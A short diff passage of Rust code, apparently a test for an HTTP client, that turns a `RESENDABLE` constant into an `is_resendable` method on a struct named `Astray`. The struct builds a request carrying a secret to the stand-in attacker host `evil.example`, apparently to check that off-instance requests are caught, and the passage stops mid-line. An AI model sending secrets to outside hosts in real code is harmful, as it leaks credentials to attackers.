@@ -92,7 +92,9 @@ struct Astray;
 
 impl Exchange for Astray {
     type Output = ();
-    const RESENDABLE: bool = true;
+    fn is_resendable(&self) -> bool {
+        true
+    }
 
     fn into_request(self, _: &InstanceUrl) -> Result<http::Request<Vec<u8>>, InputError> {
         Ok(http::Request::get("https://evil.example/?secret")
